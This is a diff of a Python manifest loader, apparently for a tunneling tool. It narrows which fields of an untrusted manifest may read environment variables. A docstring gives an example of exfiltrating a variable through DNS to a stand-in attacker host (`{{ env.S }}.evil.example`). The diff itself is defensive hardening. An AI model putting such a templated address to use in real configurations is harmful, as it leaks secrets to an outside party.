@@ -12,7 +12,7 @@ from typing import Any
 from .. import files
 from ..engine.config import ENVIRONMENT_ENGINE, EngineConfig
 from ..errors import ManifestError, UserError
-from ..redaction import SENSITIVE, replaced
+from ..redaction import MIN_REDACTED_LENGTH, SENSITIVE, replaced
 from . import domain_checks as checks
 from . import dotenv, schema, templates
 from .positions import YamlProblem, parse
@@ -224,20 +224,12 @@ def load_scope(path: FilePath, environ: Mapping[str, str] | None = None, *,
                           _engines(subset.get("engines"), path.parent), secrets)
 
 
-# Where tunnelctl connects to, or resolves: the engines, a tunnel's local target (status, doctor) and its server.
-_ADDRESSES = (("engines", None, "docker"), ("engines", None, "context"), ("engines", None, "tls"),
-              ("tunnels", None, "host"), ("tunnels", None, "server"), ("defaults", "host"), ("defaults", "server"))
-
-
-def _is_address(where: Path) -> bool:
-    return any(len(where) >= len(pattern) and all(part is None or part == where[index]
-                                                  for index, part in enumerate(pattern))
-               for pattern in _ADDRESSES)
-
-
 def _note_rendering(problems: _Problems, rendering: templates.Rendering, process: Mapping[str, str]) -> None:
-    """Take the rendering's problems, and refuse an address taken from the environment in an untrusted manifest: the
-    name a connection resolves reaches whoever answers DNS (`tcp://{{ env.S }}.evil.example:2376`)."""
+    """Take the rendering's problems; in an untrusted manifest, refuse a template that reads the environment into
+    any field but a secret one. Any other field is shown (plans, --json, messages: a character, a length or an index
+    made of a variable would be blanked only where it is recognised, and where it is tells what it is), or is an
+    address, whose name reaches whoever answers DNS (`tcp://{{ env.S }}.evil.example:2376`, an image's registry).
+    Secret fields are never shown, nor sent anywhere but Pinggy."""
     problems.sources, problems.read, problems.rendered = rendering.sources, rendering.read, rendering.rendered
     for where, message in rendering.problems:
         problems.add(where, message)
@@ -245,11 +237,15 @@ def _note_rendering(problems: _Problems, rendering: templates.Rendering, process
     if decided.trusted:
         return
     for where, names in rendering.sources.items():
-        if _is_address(where):
+        if not templates.within(where, rendering.secret_fields):
             rendering.unresolved.add(where)
-            problems.add(where, f"reads {', '.join(f'env.{name}' for name in names)}: an address tunnelctl connects "
-                                f"to may not come from the environment when the manifest is not trusted "
-                                f"({decided.decided_by}); write it in the manifest")
+            problems.add(where, f"reads {', '.join(f'env.{name}' for name in names)}: in a manifest that is not "
+                                f"trusted ({decided.decided_by}) only secret fields (token, access_keys, basic_auth "
+                                "passwords) may read the environment, since any other is shown or connected to; write "
+                                "this one in the manifest")
+    # A short secret is not blanked where it stands alone, as for a trusted manifest: which `3`s were blanked would
+    # tell it. Secret fields are never printed, so there is nothing to blank.
+    rendering.secrets.difference_update({value for value in rendering.secrets if len(value) < MIN_REDACTED_LENGTH})
 
 
 def _parse(path: FilePath, text: str) -> tuple[Any, _Problems]:
